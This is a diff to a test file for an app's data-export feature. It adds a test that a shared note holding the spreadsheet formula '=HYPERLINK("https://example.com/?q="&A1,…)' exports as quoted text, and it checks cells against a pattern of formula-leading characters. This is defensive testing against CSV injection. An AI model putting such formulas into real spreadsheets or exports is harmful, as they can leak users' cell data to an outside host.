@@ -1,6 +1,7 @@
 import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
 import { sql } from 'kysely';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { exportCommand, restoreCommand } from '../../src/cli/export.ts';
@@ -158,6 +159,17 @@ describe('download my data', () => {
       n: number;
     }>`select count(*) as n from log where text like 'PRIVATE-OF-A%'`.execute(store.db);
     expect(Number(count.rows[0]!.n)).toBe(1); // the private entry exists; it just is not B's to export
+    await app.close();
+  });
+
+  it('gives no live formula in log.csv: a partner’s "=HYPERLINK(…)" arrives as text', async () => {
+    const { a, b, app } = await populate(store);
+    const formula = '=HYPERLINK("https://example.com/?q="&A1,"click me")';
+    await a.post('/api/log', { kind: 'note', date: today(), text: formula, visibility: 'shared' });
+    const csv = (await b.get('/api/export/log.csv')).body;
+    const cells = (parse(csv) as string[][]).flat();
+    expect(cells).toContain(`'${formula}`);
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
     await app.close();
   });
 });
